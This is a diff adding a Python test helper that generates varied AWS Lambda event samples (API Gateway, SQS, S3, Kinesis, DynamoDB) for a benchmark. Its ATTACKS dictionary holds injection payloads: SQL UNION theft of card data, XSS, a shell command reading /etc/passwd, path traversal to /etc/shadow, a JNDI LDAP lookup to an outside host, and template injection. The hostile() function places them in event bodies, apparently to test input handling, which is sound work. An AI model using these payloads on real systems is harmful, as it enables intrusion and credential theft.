@@ -1,0 +1,125 @@
+"""The events of the warm path: every source, each anew with all that a caller controls changed.
+
+Bare dictionaries and standard library only: the rival's interpreter is fed the same events as JSON.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import copy
+import json
+from pathlib import Path
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Any
+
+SAMPLES = Path(__file__).resolve().parents[2] / "tests" / "data" / "events"
+# Name in the report: the sample, and how many records it is made of.
+KINDS = {
+    "API Gateway REST": ("apigateway-rest.order", 0),
+    "HTTP API": ("apigateway-http.order", 0),
+    "function URL": ("function-url.post", 0),
+    "SQS, 1": ("sqs.orders", 1),
+    "SQS, 10": ("sqs.orders", 10),
+    "SQS, 100": ("sqs.orders", 100),
+    "S3": ("s3.created", 0),
+    "Kinesis, 100": ("kinesis.records", 100),
+    "DynamoDB, 100": ("dynamodb.stream", 100),
+}
+# What decides how an event is read stays as it is, and so do words that are AWS's.
+_KEPT = {
+    "content-type",
+    "httpmethod",
+    "method",
+    "protocol",
+    "version",
+    "eventname",
+    "eventversion",
+    "awsregion",
+    "streamviewtype",
+    "b",
+}
+_OURS = ("arn:", "aws:", "$")
+
+
+def sample(kind: str, number: int = 0) -> dict[str, Any]:
+    """An event of a kind; ``number`` 0 is the sample itself, every other one differs from it in all its texts."""
+    name, records = KINDS[kind]
+    event = json.loads((SAMPLES / f"{name}.json").read_text())
+    if records:
+        first = event["Records"][0]
+        # Records of one batch differ from each other as well.
+        event["Records"] = [renewed(first, 7919 * at) if at else copy.deepcopy(first) for at in range(records)]
+    return renewed(event, number) if number else event
+
+
+def renewed(value: Any, number: int) -> Any:
+    shift = str.maketrans({chr(97 + at): chr(97 + (at + 1 + number) % 26) for at in range(26)})
+    return _renewed(value, shift, f"{number}")
+
+
+def _renewed(value: Any, shift: dict[int, str], mark: str) -> Any:
+    if isinstance(value, dict):
+        return {key: item if key.lower() in _KEPT else _renewed(item, shift, mark) for key, item in value.items()}
+    if isinstance(value, list):
+        return [_renewed(item, shift, mark) for item in value]
+    if not isinstance(value, str) or len(value) < 4 or value.startswith(_OURS):
+        return value
+    inner = _json(value)
+    if inner is not None:
+        return json.dumps(_renewed(inner, shift, mark))
+    decoded = _decoded(value)
+    if decoded is not None:
+        return base64.b64encode(str(_renewed(decoded, shift, mark)).encode()).decode()
+    return value.translate(shift) + mark
+
+
+def _json(text: str) -> Any:
+    if text[0] not in "{[":
+        return None
+    try:
+        return json.loads(text)
+    except ValueError:
+        return None
+
+
+def _decoded(text: str) -> str | None:
+    """What base64 of text says; a rotated letter would break the code, and be a finding."""
+    if len(text) < 16 or len(text) % 4:
+        return None
+    try:
+        said = base64.b64decode(text, validate=True).decode()
+    except (binascii.Error, ValueError):
+        return None
+    return said if said.isprintable() else None
+
+
+ATTACKS = {
+    "SQL": "{n}' UNION SELECT card, {n} FROM payments-- -",
+    "HTML": "<img src={n} onerror=alert({n})>",
+    "shell": "x{n}; cat /etc/passwd",
+    "path": "../../../{n}/../etc/shadow",
+    "JNDI": "${{jndi:ldap://203.0.113.66/{n}}}",
+    "template": "{{{{{n}*7}}}}{{{{''.__class__.__mro__}}}}",
+}
+
+
+def hostile(kind: str, number: int, attack: str) -> dict[str, Any]:
+    """An event all anew, with an attack where the caller's data is."""
+    event, text = sample(kind, number), attack.format(n=number + 1000)
+    records = event.get("Records")
+    place = records[len(records) // 2] if records else event
+    if "kinesis" in place:
+        place["kinesis"]["data"] = base64.b64encode(json.dumps({"note": text}).encode()).decode()
+    elif "dynamodb" in place:
+        place["dynamodb"]["NewImage"]["customer"] = {"S": text}
+    elif "s3" in place:
+        from urllib.parse import quote_plus
+
+        place["s3"]["object"]["key"] = quote_plus(text)
+    else:
+        place["body"] = json.dumps({"note": text})
+        place.pop("isBase64Encoded", None)
+    return event
